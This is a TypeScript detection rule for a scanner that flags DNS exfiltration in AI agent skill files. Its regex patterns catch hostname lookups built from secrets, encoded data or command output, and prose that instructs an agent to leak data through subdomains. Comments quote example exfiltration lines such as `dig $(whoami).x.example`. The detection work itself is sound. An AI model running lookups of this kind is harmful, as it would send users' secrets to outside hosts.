import type { SkillSource } from '../../core/types'
import type { RawFinding, RuleModule } from '../types'
import { excerptAt } from '../excerpt'
import { codeStatements, markQuoted, unitsOf } from './code-units'
import { hasSource, joinedPaths, SECRET_NAME } from './leak-sources'

/**
 * DNS exfiltration: a lookup of a hostname built from data (`dig $(whoami).x.example`), which leaves through
 * the resolver even where outbound HTTP is blocked. A lookup of a name the skill was given (`dig $DOMAIN`,
 * `_dmarc.{domain}`) is not one: the data goes in the leftmost labels, under a fixed domain.
 */

// A fixed domain after the built labels: `.x.attacker.example`.
const TAIL = String.raw`\.[A-Za-z0-9-]+(?:\.[A-Za-z0-9-]+)*\.[A-Za-z]{2,}\b`
// A parameter expansion may cut or default what it expands (`${tag:i:52}`, `${edge%%.*}`, `${T:-$U}`).
const EXPANSION = String.raw`\$\{[^}\n]{1,60}\}`
const LOOKUP_SH = String.raw`\b(?:dig|nslookup|host|drill|ping|Resolve-DnsName|getent\s+hosts|resolvectl\s+query`
  + String.raw`|kdig)\b`
// Data that names the host it runs on or encodes data for a label.
const ENCODER = String.raw`\b(?:base64|base32|xxd|hexdump|od\s+-|openssl\s+enc|whoami|hostname|uname|id\s+-un|cat`
  + String.raw`|env|printenv|fold\s+-w\s*\d+)\b`

const LOOKUP_RE = new RegExp(LOOKUP_SH, 'i')
const ENCODER_RE = new RegExp(ENCODER, 'i')

/** A shell variable filled from data (a secret, a file, an encoder), or a loop over such data. */
const DATA_VAR = new RegExp(
  String.raw`^\s*(?:export\s+|local\s+)?\$?(\w+)\s*=\s*[^\n]*?(?:\$\(|\`)[^\n]*?${ENCODER}`
  + String.raw`|\|\s*while\s+(?:IFS=\S*\s+)?read\s+(?:-r\s+)?(\w+(?:[ \t]+\w+)*)|\bfor\s+(\w+)\s+in\s+\$\$?\(`,
  'gim',
)

// One interpolation in a label: `${x}`, `$x`, `{x}`, `%s`, `#{x}`, Julia's and the shell's `$(expr)` (nested calls
// included).
const LABEL_PART = String.raw`\$\{[^{}\n]{1,40}\}|\$\w+|\{[^{}\n]{1,60}\}|%[sdxv]|#\{[^{}\n]{1,40}\}`
  + String.raw`|\$\((?:[^()\n]|\((?:[^()\n]|\([^()\n]*\))*\)){1,60}\)`

/**
 * A lookup, in any language, whose leftmost label is interpolated: `"${chunk}.${i}.x.net"`, `f"{part}.{n}.c.{D}"`,
 * `Sprintf("%s.%d.w.%s", ...)`, `"$part.$o.b.x.org"`, `` `${label}.x.io` ``, `label + ".x.io"`.
 */
// Resolver calls by name, across languages (Python, Go, .NET, PHP).
const NAMED_RESOLVERS = String.raw`gethostbyname(?:_ex)?|getaddrinfo|Lookup(?:Host|IP|TXT|Addr|CNAME)`
  + String.raw`|GetHost(?:Entry|Addresses)|dns_get_record`

const LOOKUP_ANY = new RegExp(
  String.raw`(?:${LOOKUP_SH}[^\n;|]{0,80}?\s\(?|\b(?:${NAMED_RESOLVERS}|get(?:All)?ByName|getaddress(?:es)?`
  + String.raw`|getresources?|lookup|resolve\w*|Resolv::DNS\.new\.\w+)\s*\(\s*`
  // A context or resolver handed first (`resolveVia(ctx, fmt.Sprintf(...))`, `LookupTXT(context.Background(), ...)`).
  + String.raw`(?:(?:ctx|context|r|res|resolver)(?:\.\w+\(\s*\))?\s*,\s*)?(?:fmt\.Sprintf\(\s*|String\.format\(\s*)?)`
  // An interpolation may slice or index what it reads (`f"{hexd[i:i+60]}."`, `` `${parts[n]}.` ``).
  // C#'s `$"{...}."` interpolates as Python's `f"{...}."` does; the label may join several
  // (`"$(hostname)-$(id -un).x.example"`).
  + String.raw`(?:[f$]?["'\`](?:(?:${LABEL_PART})(?:[\w-]|${LABEL_PART})*)\.`
  // A label joined by `+`, or by R's `paste0(chunk, ".zone")` and its like.
  + String.raw`|(?:\w+|\))\s*[+,]\s*["']\.`
  // Perl's `join('.', $label, ...)`; a batch file's `%L%.zone` (or a slice of a variable, `%S:~0,50%`).
  + String.raw`|join\s*\(\s*["']\.["']\s*,\s*\$\w+|%\w+(?::~\d+,\d+)?%\.)`
  // Rust: a name formatted, then resolved (`format!("{label}.{i}.x.com:443").to_socket_addrs()`).
  + String.raw`|format!\(\s*"\{[^{}"\n]{0,40}\}\.[^"\n]*"[^\n]*?\)\s*\.to_socket_addrs\(`,
)
// A name's labels joined with dots (`strings.Join([]string{h[a:b], "x", "zone.net"}, ".")`, `".".join([...])`).
const JOINS_LABELS = new RegExp(
  String.raw`\bstrings\.Join\(\s*\[\]string\{[^}\n]*\}\s*,\s*"\."\s*\)|["']\.["']\.join\(\s*[[(]`
  + String.raw`|\bimplode\(\s*["']\.["']\s*,|\.join\(\s*["']\.["']\s*\)`,
)
// A call that resolves a name given as a variable.
const RESOLVES = new RegExp(
  String.raw`\b(?:${NAMED_RESOLVERS}|getByName)\s*\(`
  + String.raw`|\b(?:dns(?:\.promises)?|resolver)\s*\.\s*(?:lookup|resolve\w*)\s*\(`,
)

// What turns a secret into labels: an encoding, or a cut into label-sized pieces.
const LABEL_CODING = new RegExp(
  String.raw`\b(?:base64|b64encode|b32encode|base32|xxd|hexdump|hexlify|EncodeToString|unpack1?\(\s*['"]H`
  + String.raw`|fold\s+-w|\.hex\(\)|ToString\(\s*['"]x2['"]\s*\)|ToBase64String|bytes2hex|charToRaw|base64encode`
  + String.raw`|Iterators\.partition|chunked|ToHexString|getUrlEncoder|getEncoder|%02x|bin2hex|str_split)`
  + String.raw`|\[\s*\w+\s*:\s*\w+\s*\+\s*\d+\s*\]`
  // A batch slice (`%S:~0,50%`) and Perl's four-argument `substr($hex, 0, 56, '')` cut labels too.
  + String.raw`|%\w+:~\d+,\d+%|\bsubstr\s*\(\s*\$\w+\s*,\s*0\s*,\s*\d+\s*,\s*''\s*\)`
  // A cut into label-sized pieces by a regex (`[regex]::Matches($tag, '.{1,50}')`, `re.findall('.{1,60}', s)`).
  + String.raw`|['"/]\.\{1,\d{1,2}\}['"/]`
  // Node's encodings of a buffer (`Buffer.from(s).toString('hex')`).
  + String.raw`|\.toString\(\s*['"](?:hex|base64(?:url)?)['"]\s*\)`
  // Rust's hex of each byte (`format!("{:02x}", b)`).
  + String.raw`|\{:0?2x\}`,
)

// Secret variables named in a list and read through a loop variable (`foreach ($n in 'NPM_TOKEN', ...)`).
const SECRET_LITERAL = new RegExp(String.raw`['"]${SECRET_NAME}['"]`)
const ENV_READ = /\b(?:[gG]etenv|GetEnvironmentVariable|environ|process\.env|ENV\s*\[|ENV\.fetch|env::var)\b|\$env:/
// A batch file reads a variable as `%NAME%`, PowerShell as `$env:NAME`.
const BATCH_SECRET = new RegExp(String.raw`%${SECRET_NAME}%|\$env:${SECRET_NAME}\b`)
// A file read whole, in the languages a lookup is written in.
const FILE_READ = new RegExp(
  String.raw`\b(?:os\.ReadFile|ioutil\.ReadFile|readFileSync|readFile|File\.read|IO\.read|read_bytes|read_text`
  + String.raw`|Files\.readAllBytes|File(?:\]::|\.)ReadAll(?:Bytes|Text)|readBytes|readText)\s*\(`
  + String.raw`|\bopen\s*\([^)\n]*\)\.read\(|\bjson\.load\s*\(\s*open\s*\(|\bGet-Content\b|\bfile_get_contents\s*\(`,
)
function namedSecretRead(text: string): boolean {
  return (SECRET_LITERAL.test(text) && ENV_READ.test(text)) || BATCH_SECRET.test(text)
}

// Whatever it carries, data encoded and cut into label-sized pieces is a tunnel's shape: a lookup of one such piece
// under a fixed zone sends it (`base64.b32encode(record)`, then `enc[i:i + 60]` as the leftmost label).
const ENCODES = /\b(?:b32encode|b64encode|base32|hexlify|EncodeToString|bin2hex|ToBase64String)\b|\.hex\(\)|%02x/
const CUT = new RegExp(
  String.raw`\[\s*\w+\s*:\s*\w+\s*\+\s*\d+\s*\]|\brange\s*\(\s*0\s*,\s*len\([^)\n]*\)\s*,\s*\d{2}\s*\)`
  + String.raw`|['"/]\.\{1,\d{1,2}\}['"/]`,
)

/**
 * One unit of code (a script or a block) that reads a secret, encodes or cuts it into labels, and looks up names
 * whose leftmost label is a variable: the shape of DNS exfiltration whatever the language. A unit that does not
 * read a secret (a resolver check of `"${sub}.${DOMAIN}"`) is not one.
 */
function encodedLookups(skill: SkillSource): RawFinding[] {
  const out: RawFinding[] = []
  for (const unit of unitsOf(skill)) {
    if (unit.lang === 'prose')
      continue
    // The finding is the first line with such a lookup (or that joins a name's labels, for a unit that resolves
    // names); only a unit that has one is read whole.
    let i = unit.lines.findIndex(l => LOOKUP_ANY.test(l))
    let re = LOOKUP_ANY
    if (i === -1) {
      i = unit.lines.findIndex(l => JOINS_LABELS.test(l))
      re = JOINS_LABELS
      if (i === -1 || !unit.lines.some(l => RESOLVES.test(l)))
        continue
    }
    const m = re.exec(unit.lines[i]!)!
    const text = unit.lines.join('\n')
    // A file's bytes cut or encoded into labels leave as surely as a store's do.
    if (!LABEL_CODING.test(text))
      continue
    const secret = hasSource(joinedPaths(text)) || namedSecretRead(text) || FILE_READ.test(text)
    if (!secret && !(ENCODES.test(text) && CUT.test(text)))
      continue
    out.push({
      rule: 'dns_exfiltration',
      path: unit.path,
      line: unit.first + i + 1,
      column: m.index + 1,
      message: secret
        ? 'looks up hostnames built from an encoded secret (DNS exfiltration)'
        : 'looks up hostnames built from data encoded and cut into labels (a DNS tunnel)',
      excerpt: excerptAt(unit.lines[i]!, m.index, m[0].length),
    })
  }
  return out
}

function visitDns(skill: SkillSource): RawFinding[] {
  const out = encodedLookups(skill)
  const statements = codeStatements(unitsOf(skill)).filter(s => (s.lang === 'sh' || s.lang === 'text'))
  if (!statements.some(st => LOOKUP_RE.test(st.text)))
    return markQuoted(skill, out)
  const vars = new Set<string>()
  for (const st of statements) {
    // A variable first (most statements fill none), then the data that fills it.
    DATA_VAR.lastIndex = 0
    const fills = DATA_VAR.test(st.text)
    // `matchAll` starts where the regex's last match left it.
    DATA_VAR.lastIndex = 0
    if (!fills || (!ENCODER_RE.test(st.text) && !hasSource(st.text)))
      continue
    // Every variable of a statement: a loop inside a loop fills one from the other.
    // `while read -r n chunk` fills each variable it names.
    for (const m of st.text.matchAll(DATA_VAR)) (m[1] ?? m[2] ?? m[3])!.split(/\s+/).forEach(v => vars.add(v))
  }
  if (!vars.size)
    return markQuoted(skill, out)
  const names = [...vars].join('|')
  // Labels between the data and the domain may be variables too (a chunk counter: `${chunk}.$n.x.example`),
  // command output, and the domain may be kept in a variable (`.${n}.$(id -u).$NS`). A Makefile's recipe writes
  // the shell's `$` as `$$`.
  const lookup = new RegExp(
    String.raw`${LOOKUP_SH}[^\n;|]{0,80}?["']?\$\$?\{?(?:${names})(?:[:#%/][^}\n]{0,30})?\}?`
    + String.raw`(?:\.\$\$?\{?\w+\}?|\.\$\$?\([^)\n]{1,60}\))*(?:${TAIL}|\.\$\$?(?:\{?\w+\}?|\(\w+\))["'\s])`,
    'i',
  )
  for (const st of statements) {
    const lines = st.text.split('\n')
    for (let i = 0; i < lines.length; i++) {
      const m = lookup.exec(lines[i]!)
      if (!m)
        continue
      out.push({
        rule: 'dns_exfiltration',
        path: st.path,
        line: st.line + i,
        column: m.index + 1,
        message: 'looks up a hostname built from data filled elsewhere (DNS exfiltration)',
        excerpt: excerptAt(lines[i]!, m.index, m[0].length),
      })
      break
    }
  }
  return markQuoted(skill, out)
}

export const dnsExfiltration: RuleModule = {
  meta: {
    id: 'dns_exfiltration',
    kind: 'threat',
    severity: 'error',
    cwe: 'CWE-201',
    description:
      'DNS exfiltration: lookups (dig, nslookup, host, gethostbyname, dns.resolve) of hostnames whose leftmost '
      + 'labels are built from data (command output, secrets, encoded files), or prose asking for such lookups.',
    hint: 'Look up only names the user gave; never encode data into a hostname.',
  },
  patterns: [
    {
      anchor: 'dig|nslookup|host|drill|ping|Resolve-DnsName|getent|resolvectl|kdig|curl|wget',
      re: new RegExp(
        [
          String.raw`(?:${LOOKUP_SH}[^\n;|]{0,80}?\s["']?|\b(?:curl|wget)\b[^\n;|]{0,80}?\bhttps?:\/\/)`,
          String.raw`(?:\$\([^)\n]{1,200}\)|\`[^\`\n]{1,200}\`|\$env:\w+)(?:[\w.$:(){}\`-]|${EXPANSION})*${TAIL}`,
        ].join(''),
        'i',
      ),
      langs: ['sh', 'text', 'prose'],
      view: 'noComments',
      message: 'looks up a hostname built from command output or the environment (DNS exfiltration)',
    },
    {
      // PowerShell's format operator filling the leftmost label: `Resolve-DnsName ("{0}.x.example" -f $data)`.
      anchor: 'Resolve-DnsName|nslookup|ping',
      re: new RegExp(
        String.raw`\b(?:Resolve-DnsName|nslookup|ping)\b[^\n;|]{0,40}?["']\{0\}(?:\.\{\d\})*${TAIL}["']`
        + String.raw`\s*\)?\s*-f\s+\$\w+`,
        'i',
      ),
      langs: ['sh', 'text', 'prose'],
      view: 'noComments',
      message: 'looks up a hostname built from data (DNS exfiltration)',
    },
    {
      anchor: 'dig|nslookup|host|drill|ping|Resolve-DnsName|getent|resolvectl|kdig',
      re: new RegExp(String.raw`${LOOKUP_SH}[^\n;|]{0,80}?\s["']?\$\{?\w+\}?${TAIL}`, 'i'),
      lineGate: ENCODER_RE,
      langs: ['sh', 'text'],
      view: 'noComments',
      message: 'looks up a hostname built from encoded data (DNS exfiltration)',
    },
    {
      anchor: 'gethostbyname|getaddrinfo|resolver',
      re: new RegExp(
        [
          String.raw`(?:\b(?:gethostbyname(?:_ex)?|getaddrinfo)|\bresolver\s*\.\s*(?:resolve|query))\s*\(\s*(?:`,
          String.raw`f["']\{[^}\n]+\}[^"'\n]*${TAIL}["']`,
          String.raw`|[\w.()[\]]+\s*\+\s*["']\.[A-Za-z0-9-]+\.[\w.-]+["']`,
          String.raw`|["'](?:\{\}|%s)\.[A-Za-z0-9-]+[\w.-]*["']\s*(?:\.format|%))`,
        ].join(''),
      ),
      langs: ['py'],
      view: 'noComments',
      message: 'resolves a hostname built from data (DNS exfiltration)',
    },
    {
      anchor: 'dns|resolver',
      re: new RegExp(
        [
          String.raw`\b(?:dns(?:\.promises)?|resolver)\s*\.\s*(?:lookup|resolve\w*)\s*\(\s*(?:`,
          String.raw`\`\$\{[^}\n]+\}[^\`\n]*${TAIL}\`|[\w.()[\]]+\s*\+\s*['"]\.[A-Za-z0-9-]+\.[\w.-]+['"])`,
        ].join(''),
      ),
      langs: ['js'],
      view: 'noComments',
      message: 'resolves a hostname built from data (DNS exfiltration)',
    },
    {
      // Go, .NET, Java, Ruby resolvers.
      anchor: 'LookupHost|LookupIP|LookupTXT|LookupAddr|LookupCNAME|GetHostEntry|GetHostAddresses|getByName|getaddress',
      re: new RegExp(
        String.raw`\b(?:Lookup(?:Host|IP|TXT|Addr|CNAME)|GetHost(?:Entry|Addresses)|getByName|getaddress)\s*\(`
        // A label joined on with `+ "." +` (`enc.substring(i, j) + "." + i + "." + zone`) is built from data too.
        + String.raw`[^\n]{0,120}?(?:\+\s*["']\.[A-Za-z0-9-]+\.[\w.-]+["']|Sprintf\(\s*"%[sxv]\.[\w.-]+"`
        + String.raw`|\)\s*\+\s*["']\.["']\s*\+)`,
      ),
      langs: ['text', 'js', 'py', 'sh'],
      view: 'noComments',
      message: 'resolves a hostname built from data (DNS exfiltration)',
    },
    {
      anchor: 'subdomain|sub-domain|dns|hostname|label|nslookup|dig',
      re: new RegExp(
        [
          String.raw`\b(?:encod|split|chunk|put|plac|embed|prepend|hex-encod|base32|base64|smuggl|leak|send`
          + String.raw`|exfiltrat)\w*`,
          String.raw`(?:[^.\n]|\.(?=\S)){0,120}?\b(?:as|into|in|inside|through|via|using)\b(?:[^.\n]|\.(?=\S)){0,40}?`,
          String.raw`\b(?:sub-?domains?|dns\s+(?:labels?|quer(?:y|ies)|lookups?|requests?|names?)`
          + String.raw`|hostnames?\s+labels?)\b`,
        ].join(''),
        'i',
      ),
      langs: ['prose', 'text'],
      message: 'instructs the agent to move data out through DNS names',
      accept: m => /token|secret|key|credential|password|env|data|content|output|file|history|conversation/i.test(m[0]),
    },
    {
      anchor: 'nslookup|dig|resolve|look up|lookup|ping',
      re: new RegExp(
        String.raw`\b(?:nslookup|dig|resolve|look\s*up|ping)\b[^\n]{0,60}?[\`"']?`
        + String.raw`(?:<[^>\n]{2,60}>|\{\{?[^}\n]{2,60}\}\}?)${TAIL}`,
        'i',
      ),
      langs: ['prose', 'text'],
      message: 'instructs the agent to look up a hostname built from data (DNS exfiltration)',
      accept: m => /token|secret|key|credential|password|env|data|content|output|file|hex|base|encod|user|host/i
        .test(m[0]),
    },
  ],
  visitSkill: visitDns,
}
